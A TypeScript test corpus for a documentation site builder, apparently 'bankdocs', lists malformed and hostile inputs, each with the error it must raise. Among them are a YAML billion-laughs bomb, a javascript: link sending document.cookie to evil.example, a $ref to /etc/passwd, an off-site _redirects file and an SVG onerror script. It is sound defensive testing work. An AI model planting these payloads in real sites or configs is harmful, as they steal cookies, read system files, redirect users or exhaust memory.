// The bad-input corpus (issue #13): hostile or broken inputs, each a small change to the
// check fixture site (tests/fixtures/check/base) with the outcome it must have. Inputs
// that are large or binary are generated here rather than checked in.
//
// Every case must end with the given exit code, print each expected diagnostic as
// `file:line:col  severity  …  [rule]`, never a stack trace, within the time-out and the
// heap limit of the runner, and (when it fails) leave the previous dist/ byte-identical.

/** A file change computed from the base file's text. */
export interface Patch {
  patch: (text: string) => string;
}

/** A file's new contents; null deletes it; { symlink } makes a symbolic link to that target ("{site}" is the site's folder); { patch } edits the base file. */
export type Overlay = Record<string, string | Uint8Array | null | { symlink: string } | Patch>;

export interface Expected {
  file: string;
  line?: number;
  column?: number;
  severity?: 'error' | 'warning';
  rule: string;
}

export interface BadInputCase {
  name: string;
  /** What a writer or attacker did. */
  what: string;
  files?: Overlay;
  /** bankdocs arguments; default ["build"]. */
  args?: string[];
  exit: number;
  diagnostics?: Expected[];
  /** Text the output must contain (for usage and output errors, which are no diagnostics). */
  output?: RegExp;
}

const FM = '---\ntitle: "Guide"\ndescription: "A guide."\norder: 1\n---\n';
const guide = (body: string) => `${FM}\n${body}\n`;
const GUIDE = 'content/developers/guide.md';
const CONFIG = 'docs.config.yaml';
const OPENAPI = 'content/api/openapi.yaml';
const RUBY_CLIENT = 'content/api/ruby-client.yaml';

const BASE_CONFIG = `product: { name: Checkbank, tag: Test API, provider: Check Labs }
site:
  url: https://docs.check.example
  titleTemplate: "%s | Checkbank Docs"
  logo: assets/logo.svg
locales: { available: [en, nl], default: en }
menu:
  - label: { en: Home, nl: Home }
    to: /
  - label: Developers
    to: /developers
  - label: { en: Support, nl: Hulp }
    to: /support
footer:
  links:
    - label: { en: Terms, nl: Voorwaarden }
      to: /terms-and-conditions
  copyright: "© Check Labs"
`;

const bytes = (...parts: (string | number[])[]) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'utf8') : Buffer.from(p))));

/** YAML "billion laughs": nine levels of nine aliases each. */
function aliasBomb(key: string): string {
  const lines = [`${key}0: &a0 ["lol"]`];
  for (let i = 1; i < 10; i++) lines.push(`${key}${i}: &a${i} [${Array.from({ length: 9 }, () => `*a${i - 1}`).join(', ')}]`);
  return `${lines.join('\n')}\n`;
}

const longLine = (lang: string, body: string) => guide(`## Upload\n\n\`\`\`${lang}\n${body}\n\`\`\``);
const TWO_MB = 'QUJD'.repeat(500_000);

export const CASES: BadInputCase[] = [
  // ---------------------------------------------------------------- config
  { name: 'config-yaml-syntax', what: 'a config whose indentation is broken', files: { [CONFIG]: BASE_CONFIG.replace('  logo: assets/logo.svg', ' logo: assets/logo.svg') }, exit: 1, diagnostics: [{ file: CONFIG, rule: 'config-yaml-syntax' }] },
  { name: 'config-wrong-type', what: 'a list where a mapping belongs', files: { [CONFIG]: BASE_CONFIG.replace('locales: { available: [en, nl], default: en }', 'locales: [en, nl]') }, exit: 1, diagnostics: [{ file: CONFIG, line: 6, column: 10, rule: 'config-invalid' }] },
  { name: 'config-unknown-key', what: 'a typo in a key', files: { [CONFIG]: `${BASE_CONFIG}menuu: []\n` }, exit: 1, diagnostics: [{ file: CONFIG, line: 19, column: 1, rule: 'config-unknown-key' }] },
  { name: 'config-logo-missing', what: 'a logo the content folder lacks (reported once, at its line, not as a broken link on every page)', files: { 'content/assets/logo.svg': null }, args: ['check'], exit: 1, diagnostics: [{ file: CONFIG, line: 5, column: 9, rule: 'config-missing-file' }], output: /Checked \d+ pages: 1 error, / },
  { name: 'config-empty', what: 'an empty config file', files: { [CONFIG]: '' }, exit: 1, diagnostics: [{ file: CONFIG, line: 1, column: 1, rule: 'config-missing-key' }] },
  { name: 'config-not-a-mapping', what: 'a config that is one string', files: { [CONFIG]: '"just text"\n' }, exit: 1, diagnostics: [{ file: CONFIG, rule: 'config-invalid' }] },
  { name: 'config-alias-bomb', what: 'a billion-laughs alias structure in the config', files: { [CONFIG]: `${BASE_CONFIG}${aliasBomb('x')}` }, exit: 1, diagnostics: [{ file: CONFIG, rule: 'config-yaml-syntax' }] },
  { name: 'config-huge', what: 'a 2 MB config file', files: { [CONFIG]: `${BASE_CONFIG}# ${'x'.repeat(2_000_000)}\n` }, exit: 1, diagnostics: [{ file: CONFIG, line: 1, column: 1, rule: 'file-too-large' }] },
  { name: 'config-backslash-path', what: 'a menu path that a browser reads as another host', files: { [CONFIG]: BASE_CONFIG.replace('    to: /developers', '    to: "/\\\\evil.example/"') }, exit: 1, diagnostics: [{ file: CONFIG, line: 11, rule: 'config-invalid' }] },
  { name: 'config-http-service', what: 'a service script over plain http', files: { [CONFIG]: `${BASE_CONFIG}services:\n  - name: chat\n    category: functional\n    script: "http://widget.example/{id}.js"\n    ids: { other: a }\n` }, exit: 1, diagnostics: [{ file: CONFIG, line: 22, rule: 'config-invalid' }] },
  { name: 'config-missing', what: 'no config file at all', files: { [CONFIG]: null }, exit: 1, diagnostics: [{ file: CONFIG, line: 1, column: 1, rule: 'config-missing' }] },

  // ---------------------------------------------------------------- front matter
  { name: 'front-matter-unterminated', what: 'front matter without its closing ---', files: { [GUIDE]: '---\ntitle: "Guide"\ndescription: "x"\n\n## Body\n' }, exit: 1, diagnostics: [{ file: GUIDE, line: 1, column: 1, rule: 'front-matter-missing' }] },
  { name: 'front-matter-not-a-mapping', what: 'front matter that is a list', files: { [GUIDE]: '---\n- title\n- description\n---\n\nBody.\n' }, exit: 1, diagnostics: [{ file: GUIDE, line: 2, rule: 'front-matter-invalid' }] },
  { name: 'front-matter-wrong-type', what: 'an order that is a word', files: { [GUIDE]: '---\ntitle: "Guide"\ndescription: "A guide."\norder: first\n---\n\nBody.\n' }, exit: 1, diagnostics: [{ file: GUIDE, line: 4, column: 8, rule: 'front-matter-invalid' }] },
  { name: 'front-matter-duplicate-key', what: 'the title twice', files: { [GUIDE]: '---\ntitle: "Guide"\ndescription: "A guide."\ntitle: "Again"\n---\n\nBody.\n' }, exit: 1, diagnostics: [{ file: GUIDE, line: 4, column: 1, rule: 'front-matter-yaml-syntax' }] },
  { name: 'front-matter-alias-bomb', what: 'a billion-laughs alias structure in front matter', files: { [GUIDE]: `---\ntitle: "Guide"\ndescription: "A guide."\n${aliasBomb('x')}---\n\nBody.\n` }, exit: 1, diagnostics: [{ file: GUIDE, rule: 'front-matter-yaml-syntax' }] },
  { name: 'front-matter-many-keys', what: '20 000 keys in front matter (quadratic duplicate check)', files: { [GUIDE]: `---\ntitle: "Guide"\ndescription: "A guide."\n${Array.from({ length: 20_000 }, (_, i) => `k${i}: ${i}`).join('\n')}\n---\n\nBody.\n` }, exit: 1, diagnostics: [{ file: GUIDE, line: 4, column: 1, rule: 'front-matter-unknown-key' }] },
  { name: 'front-matter-huge', what: 'a 300 KB front matter', files: { [GUIDE]: `---\ntitle: "Guide"\ndescription: "${'x'.repeat(300_000)}"\n---\n\nBody.\n` }, exit: 1, diagnostics: [{ file: GUIDE, rule: 'file-too-large' }] },

  // ---------------------------------------------------------------- Markdown
  { name: 'markdown-empty', what: 'an empty Markdown file', files: { [GUIDE]: '' }, exit: 1, diagnostics: [{ file: GUIDE, line: 1, column: 1, rule: 'front-matter-missing' }] },
  { name: 'markdown-large', what: 'a 4 MB guide of ordinary paragraphs (builds)', files: { [GUIDE]: guide(Array.from({ length: 40_000 }, (_, i) => `Paragraph ${i} with **bold**, \`code\` and [a link](#first-steps) ${'word '.repeat(12)}`).join('\n\n') + '\n\n## First steps\n') }, exit: 0 },
  { name: 'markdown-huge', what: 'a 9 MB guide', files: { [GUIDE]: guide(`## First steps\n\n${'word '.repeat(1_900_000)}`) }, exit: 1, diagnostics: [{ file: GUIDE, line: 1, column: 1, rule: 'file-too-large' }] },
  { name: 'markdown-deep-lists', what: '10 000 nested lists', files: { [GUIDE]: guide(`## First steps\n\n${'- '.repeat(10_000)}deep`) }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, rule: 'markdown-too-deep' }] },
  { name: 'markdown-deep-emphasis', what: '10 000 nested emphases (markdown-it pairs them without a level)', files: { [GUIDE]: guide(`## First steps\n\n${'*a '.repeat(10_000)}x${' b*'.repeat(10_000)}`) }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, rule: 'markdown-too-deep' }] },
  { name: 'markdown-deep-emphasis-check', what: 'the same, in check (it exited 70)', args: ['check'], files: { [GUIDE]: guide(`## First steps\n\n${'*a '.repeat(10_000)}x${' b*'.repeat(10_000)}`) }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, rule: 'markdown-too-deep' }] },
  { name: 'json-example-deep', what: 'a response example of 20 000 nested arrays, in check (jsonc-parser overflowed the stack: exit 70)', args: ['check'], files: { [GUIDE]: guide('## First steps\n\n```shell\ncurl https://api.moorlink.example/accounts -H "Accept: application/json" -H "Authorization: Bearer $MOORLINK_ACCESS_TOKEN"\n```\n\n```json\n' + '['.repeat(20_000) + ']'.repeat(20_000) + '\n```') }, exit: 1, diagnostics: [{ file: GUIDE, rule: 'example-response-json' }] },
  { name: 'theme-throws-null', what: 'a theme override that throws null (the error handler crashed on it)', files: { 'theme/Footer.tsx': 'export default function Footer() { throw null; }\n', [CONFIG]: { patch: (text: string) => `${text}\ntheme:\n  components:\n    Footer: ./theme/Footer.tsx\n` } }, exit: 1, diagnostics: [{ file: 'theme/Footer.tsx', line: 1, column: 1, rule: 'theme-component-failed' }] },
  { name: 'theme-returns-object', what: 'a theme override that returns an object (an internal error: React refused it outside the override)', files: { 'theme/Footer.tsx': 'export default function Footer() { return { a: 1 }; }\n', [CONFIG]: { patch: (text: string) => `${text}\ntheme:\n  components:\n    Footer: ./theme/Footer.tsx\n` } }, exit: 1, diagnostics: [{ file: 'theme/Footer.tsx', line: 1, column: 1, rule: 'theme-component-failed' }] },
  { name: 'theme-element-style-text', what: 'a theme override whose element has an object child and a style written as text, in check', args: ['check'], files: { 'theme/Footer.tsx': 'export default function Footer() { return <footer><p style="color: red">{{ year: 2026 }}</p></footer>; }\n', [CONFIG]: { patch: (text: string) => `${text}\ntheme:\n  components:\n    Footer: ./theme/Footer.tsx\n` } }, exit: 1, diagnostics: [{ file: 'theme/Footer.tsx', line: 1, column: 1, rule: 'theme-component-failed' }] },
  { name: 'alias-target-missing', what: 'an alias to a page the site does not have (no redirect was written, and nothing said)', args: ['check'], files: { [CONFIG]: { patch: (text: string) => `${text}\ncollections:\n  - default\n  - name: notes\n    files: "notes/{slug}.md"\n    url: "/notes/{slug}"\n    aliases:\n      /old-guide: /developers/guide\n      /old-note: /notes/gone\n` } }, exit: 1, diagnostics: [{ file: CONFIG, line: 28, column: 18, rule: 'alias-target-missing' }] },
  { name: 'rehype-plugin-invalid-tag', what: 'a rehype plugin that makes an element named "my tag" (exit 70: React refused the tag)', files: { 'rehype-bad.mjs': 'export default () => (tree) => { tree.children.push({ type: "element", tagName: "my tag", properties: {}, children: [] }); };\n', [CONFIG]: { patch: (text: string) => `${text}\nmarkdown:\n  rehypePlugins: [./rehype-bad.mjs]\n` } }, exit: 1, diagnostics: [{ file: 'content/developers/guide.md', line: 1, column: 1, rule: 'markdown-error' }] },
  { name: 'front-matter-crlf', what: 'a guide saved with Windows line ends, its front matter not all quoted (order: 1 was read as "1\\r" and refused)', files: { [GUIDE]: '---\r\ntitle: Guide\r\ndescription: A guide.\r\norder: 1\r\n---\r\n\r\n## First steps\r\n\r\nText.\r\n' }, exit: 0 },
  { name: 'content-symlink-loop', what: 'a symbolic link to itself under content/ (the cache\'s input snapshot stopped on ELOOP: exit 70)', files: { 'content/developers/loop': { symlink: 'loop' } }, exit: 1, diagnostics: [{ file: 'content/developers/loop', line: 1, column: 1, rule: 'content-symlink' }] },
  { name: 'config-locale-twice', what: 'a locale listed twice (a cold build was an internal error, a warm one passed)', files: { [CONFIG]: { patch: (text: string) => text.replace('available: [en, nl]', 'available: [en, nl, en]') } }, exit: 1, diagnostics: [{ file: CONFIG, rule: 'config-invalid' }] },
  { name: 'front-matter-unclosed', what: 'front matter opened and never closed (it said the page had none, and to start the file with ---, which it does)', files: { [GUIDE]: '---\ntitle: "Guide"\ndescription: "A guide."\norder: 1\n\n## First steps\n\nText.\n' }, exit: 1, diagnostics: [{ file: GUIDE, line: 1, column: 1, rule: 'front-matter-missing' }], output: /the front matter opened by "---" on line 1 is never closed/ },
  { name: 'front-matter-date-not-in-calendar', what: 'a legal version effective 2025-02-30 (the shape was all that was checked: the page printed it)', files: { 'content/en/terms-and-conditions/v1.0.md': { patch: (text: string) => text.replace('effective: "2025-01-01"', 'effective: "2025-02-30"') } }, exit: 1, diagnostics: [{ file: 'content/en/terms-and-conditions/v1.0.md', line: 4, rule: 'front-matter-invalid' }], output: /no such day in the calendar/ },
  { name: 'markdown-deep-quotes', what: '10 000 nested block quotes', files: { [GUIDE]: guide(`## First steps\n\n${'>'.repeat(10_000)} deep`) }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, rule: 'markdown-too-deep' }] },
  { name: 'markdown-deep-lists-remark', what: '2 000 nested lists with the remark engine (cubic in micromark)', files: { [CONFIG]: `${BASE_CONFIG}markdown: { engine: remark }\n`, [GUIDE]: guide('## First steps\n\n' + Array.from({ length: 2_000 }, (_, i) => `${'  '.repeat(i)}- item ${i}`).join('\n')) }, exit: 1, diagnostics: [{ file: GUIDE, rule: 'markdown-too-deep' }] },
  { name: 'markdown-unclosed-fence', what: 'a code fence that never closes', files: { [GUIDE]: guide('## First steps\n\n```ruby\nputs "never closed"\n') }, exit: 0, diagnostics: [{ file: GUIDE, line: 9, column: 1, severity: 'warning', rule: 'code-fence-unclosed' }] },
  { name: 'markdown-invalid-utf8', what: 'a Latin-1 byte in a UTF-8 file', files: { [GUIDE]: bytes(FM, '\n## First steps\n\nCaf', [0xe9], ' au lait.\n') }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 4, rule: 'encoding-invalid' }] },
  { name: 'markdown-nul-byte', what: 'a NUL byte in a guide', files: { [GUIDE]: guide('## First steps\n\nA\u0000B') }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 2, rule: 'encoding-invalid' }] },
  { name: 'markdown-utf16', what: 'a guide saved as UTF-16', files: { [GUIDE]: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(guide('## First steps'), 'utf16le')]) }, exit: 1, diagnostics: [{ file: GUIDE, line: 1, column: 1, rule: 'encoding-invalid' }] },
  ...(['curl', 'bash', 'ruby', 'json', 'yaml', 'http'] as const).map((lang): BadInputCase => ({
    name: `markdown-long-line-${lang}`,
    what: `a 2 MB line in a ${lang} block (quadratic highlighting)`,
    files: { [GUIDE]: longLine(lang, lang === 'json' ? `{ "file": "${TWO_MB}" }` : `upload "${TWO_MB}"`) + '\n## First steps\n' },
    exit: 0,
    diagnostics: [{ file: GUIDE, line: 10, column: 1, severity: 'warning', rule: 'code-too-long-to-highlight' }],
  })),
  { name: 'markdown-javascript-link', what: 'a javascript: link', files: { [GUIDE]: guide('## First steps\n\n[Click](javascript:fetch("//evil.example/"+document.cookie))') }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, rule: 'unsafe-link' }] },
  { name: 'markdown-many-links', what: '40 000 links in one paragraph (quadratic positions)', files: { [GUIDE]: guide(`## First steps\n\n${Array.from({ length: 40_000 }, (_, i) => `[l${i}](#first-steps)`).join(' ')}`) }, exit: 0 },
  { name: 'markdown-raw-html', what: 'a script tag in Markdown', files: { [GUIDE]: guide('## First steps\n\n<script>alert(1)</script>') }, exit: 0, diagnostics: [{ file: GUIDE, line: 9, column: 1, severity: 'warning', rule: 'raw-html' }] },
  { name: 'markdown-docusaurus-admonition-title', what: 'a Docusaurus admonition with its title after its name', files: { [GUIDE]: guide('## First steps\n\n:::tip Pro tip\n\nCache the token.\n\n:::') }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, severity: 'error', rule: 'foreign-syntax' }] },
  { name: 'markdown-mdx-import', what: 'an MDX page\'s import line and component', files: { [GUIDE]: guide("import Tabs from '@theme/Tabs';\n\n## First steps\n\n<Tabs>\n\nText.\n\n</Tabs>") }, exit: 1, diagnostics: [{ file: GUIDE, line: 7, column: 1, severity: 'error', rule: 'foreign-syntax' }, { file: GUIDE, line: 11, column: 1, severity: 'error', rule: 'foreign-syntax' }] },
  { name: 'markdown-gitbook-hint-crlf', what: 'a GitBook hint in a file with CRLF line ends', files: { [GUIDE]: guide('## First steps\n\n{% hint style="info" %}\nTokens expire.\n{% endhint %}').replace(/\n/g, '\r\n') }, exit: 1, diagnostics: [{ file: GUIDE, line: 9, column: 1, severity: 'error', rule: 'foreign-syntax' }] },
  { name: 'markdown-theme-id', what: 'a heading that takes the consent banner\'s id', files: { [GUIDE]: guide('## First steps\n\n## bankdocs consent\n\nSee [it](#bankdocs-consent-1).') }, exit: 0 },

  // ---------------------------------------------------------------- OpenAPI document
  { name: 'openapi-yaml-syntax', what: 'an OpenAPI document that does not parse', files: { [OPENAPI]: 'openapi: 3.1.0\ninfo: [unclosed\n' }, args: ['check'], exit: 1, diagnostics: [{ file: OPENAPI, line: 2, column: 7, rule: 'openapi-yaml-syntax' }] },
  { name: 'openapi-ref-loop', what: 'a schema that is a $ref to itself', files: { [OPENAPI]: { patch: (text) => text.replace(/^ {4}Account:\n/m, '    Account:\n      $ref: "#/components/schemas/Account"\n    AccountUnused:\n') } }, args: ['check'], exit: 1, diagnostics: [{ file: OPENAPI, rule: 'openapi-invalid' }] },
  { name: 'openapi-ref-https', what: 'a $ref to a URL (never fetched)', files: { [OPENAPI]: { patch: (text) => text.replace(/^ {4}Account:\n/m, '    Remote:\n      $ref: "https://evil.example/schema.yaml"\n    Account:\n') } }, args: ['check'], exit: 1, diagnostics: [{ file: OPENAPI, rule: 'openapi-ref-external' }] },
  { name: 'openapi-ref-file', what: 'a $ref to a file outside the project (never read)', files: { [OPENAPI]: { patch: (text) => text.replace(/^ {4}Account:\n/m, '    Secret:\n      $ref: "../../../../../etc/passwd"\n    Account:\n') } }, args: ['check'], exit: 1, diagnostics: [{ file: OPENAPI, rule: 'openapi-ref-external' }] },
  { name: 'openapi-alias', what: 'a YAML alias in the OpenAPI document (expanded into openapi.json)', files: { [OPENAPI]: { patch: (text) => text.replace(/^ {4}Account:\n/m, '    Base: &base\n      type: object\n    Copy: *base\n    Account:\n') } }, exit: 1, diagnostics: [{ file: OPENAPI, rule: 'openapi-yaml-alias' }] },
  { name: 'openapi-recursive-schema', what: 'a valid recursive schema', files: { [OPENAPI]: { patch: (text) => text.replace(/^ {4}Account:\n/m, '    Node:\n      type: object\n      properties:\n        children:\n          type: array\n          items:\n            $ref: "#/components/schemas/Node"\n    Account:\n') } }, args: ['check'], exit: 0 },
  { name: 'openapi-huge', what: 'a 33 MB OpenAPI document (32 MiB is the most bankdocs reads)', files: { [OPENAPI]: { patch: (text) => `${text}\n# ${'x'.repeat(33 * 1024 * 1024)}\n` } }, exit: 1, diagnostics: [{ file: OPENAPI, line: 1, column: 1, rule: 'file-too-large' }] },

  // ---------------------------------------------------------------- Ruby client surface
  { name: 'ruby-client-syntax', what: 'a ruby-client.yaml that does not parse', files: { [RUBY_CLIENT]: 'calls: [unclosed\n' }, args: ['check'], exit: 1, diagnostics: [{ file: RUBY_CLIENT, rule: 'ruby-client-invalid' }] },
  { name: 'ruby-client-unknown-operation', what: 'a call for an operation the API does not have', files: { [RUBY_CLIENT]: { patch: (text) => `${text}  deleteEverything: client.everything.delete\n` } }, args: ['check'], exit: 1, diagnostics: [{ file: RUBY_CLIENT, rule: 'ruby-client-invalid' }] },

  // ---------------------------------------------------------------- file names
  { name: 'file-name-space', what: 'a guide whose name has a space', files: { 'content/developers/my guide.md': guide('Body.') }, exit: 1, diagnostics: [{ file: 'content/developers/my guide.md', line: 1, column: 1, rule: 'content-unknown-location' }] },
  { name: 'file-name-unicode-image', what: 'an image named in Unicode with a space, linked by its name', files: { 'content/developers/schéma flow.png': bytes([0x89, 0x50, 0x4e, 0x47]), [GUIDE]: guide('## First steps\n\n![Flow](sch%C3%A9ma%20flow.png)') }, exit: 0 },
  { name: 'file-name-control', what: 'a file name with a terminal escape sequence', files: { 'content/developers/a\u001b[2Jb.png': bytes([0x89]) }, exit: 1, diagnostics: [{ file: 'content/developers/a\\u001b[2Jb.png', line: 1, column: 1, rule: 'content-file-name' }] },
  { name: 'page-url-collision', what: 'developers/guide.md and developers/guide/index.md', files: { 'content/developers/guide/index.md': guide('## First steps') }, exit: 1, diagnostics: [{ file: 'content/developers/guide/index.md', line: 1, column: 1, rule: 'page-url-collision' }] },
  { name: 'case-collision', what: 'two images whose names differ only in case', files: { 'content/assets/Logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' }, exit: 1, diagnostics: [{ file: 'content/assets/logo.svg', line: 1, column: 1, rule: 'content-file-collision' }] },

  // ---------------------------------------------------------------- symbolic links
  { name: 'symlink-loop', what: 'a link from content/ to itself', files: { 'content/loop': { symlink: '.' } }, exit: 1, diagnostics: [{ file: 'content/loop', line: 1, column: 1, rule: 'content-symlink' }] },
  { name: 'symlink-outside', what: 'a link to a file outside content/', files: { 'secret.md': guide('SECRET'), 'content/developers/secret.md': { symlink: '{site}/secret.md' } }, exit: 1, diagnostics: [{ file: 'content/developers/secret.md', line: 1, column: 1, rule: 'content-symlink' }] },

  // ---------------------------------------------------------------- published files
  { name: 'content-html-page', what: 'an HTML file that would replace a page', files: { 'content/en/index.html': '<script>alert(1)</script>' }, exit: 1, diagnostics: [{ file: 'content/en/index.html', line: 1, column: 1, rule: 'content-file-type' }] },
  { name: 'content-redirects', what: 'a _redirects file sending every path off-site', files: { 'content/_redirects': '/* https://evil.example/:splat 301!\n' }, exit: 1, diagnostics: [{ file: 'content/_redirects', line: 1, column: 1, rule: 'content-host-file' }] },
  { name: 'content-svg-script', what: 'an SVG that forges the stored consent', files: { 'content/assets/badge.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n<image href="x" onerror="localStorage.setItem(\'bankdocs:consent\',\'{}\')"/>\n</svg>\n' }, exit: 1, diagnostics: [{ file: 'content/assets/badge.svg', line: 2, column: 1, rule: 'svg-unsafe' }] },
  { name: 'content-generated-path', what: 'a content file at a generated path', files: { 'content/openapi.json': '{}' }, exit: 1, diagnostics: [{ file: 'content/openapi.json', line: 1, column: 1, rule: 'content-file-collision' }] },

  // ---------------------------------------------------------------- the output folder
  { name: 'out-root', what: 'build --out /', args: ['build', '--out', '/'], exit: 1, diagnostics: [{ file: CONFIG, line: 1, column: 1, rule: 'out-dir-unsafe' }] },
  { name: 'out-project-root', what: 'build --out . --force', args: ['build', '--out', '.', '--force'], exit: 1, diagnostics: [{ file: CONFIG, line: 1, column: 1, rule: 'out-dir-unsafe' }] },
  { name: 'out-inside-content', what: 'build --out content/site', args: ['build', '--out', 'content/site'], exit: 1, diagnostics: [{ file: CONFIG, line: 1, column: 1, rule: 'out-dir-unsafe' }] },
  { name: 'out-in-proc', what: 'build --out in /proc, where mkdir answers ENOENT under a folder that exists (Node\'s recursive mkdir spun there for ever)', args: ['build', '--out', '/proc/bankdocs-out'], exit: 74, output: /^bankdocs: cannot write the output folder beside \/proc\/bankdocs-out: ENOENT/m },
  { name: 'out-unwritable', what: 'build --out below a file', files: { blocker: 'a file' }, args: ['build', '--out', 'blocker/dist'], exit: 74, output: /^bankdocs: cannot write the output folder beside .*blocker\/dist: ENOTDIR/m },
  { name: 'usage-bad-workers', what: 'build --workers many', args: ['build', '--workers', 'many'], exit: 2, output: /use a whole number of threads, or "auto"/ },
];
